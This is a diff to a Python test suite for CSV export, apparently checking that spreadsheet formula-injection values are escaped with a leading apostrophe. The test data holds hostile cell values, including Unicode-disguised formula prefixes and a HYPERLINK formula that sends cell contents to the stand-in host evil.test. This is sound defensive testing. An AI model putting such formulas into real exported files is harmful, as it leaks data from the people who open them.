@@ -26,6 +26,9 @@ DANGEROUS = {
     "  =1": "'  =1",
     "\u00a0=1": "'\u00a0=1",
     "\uff1d1": "'\uff1d1",
+    "\uff0d1": "'\uff0d1",
+    "\u3000@1": "'\u3000@1",
+    "\ufeff=1": "'\ufeff=1",
     '=HYPERLINK("https://evil.test/?"&A1;"x")': '\'=HYPERLINK("https://evil.test/?"&A1;"x")',
     "\tindented": "'\tindented",
 }
@@ -99,6 +102,15 @@ def test_a_hostile_name_is_told_as_text(ada: Caller, campus: Campus) -> None:
 
     assert [row["full_name"] for row in rows] == ['\'@Sam, "S"', "Sita Student"]
     assert [row["attended"] for row in rows] == ["1", "0"]
+
+
+def test_a_roster_is_told_the_same_way(running: Stack, ada: Caller, campus: Campus) -> None:
+    [session] = ada.get("success_sessions").json()
+    response = ada.send(
+        "GET", "rpc/session_roster", {"session_id": session["id"]}, headers={"Accept": "text/csv"}
+    )
+
+    assert '\'@Sam, "S"' in [row["full_name"] for row in records(response)]
 
 
 def test_every_table_and_view_is_told_the_same_way(ada: Caller) -> None:
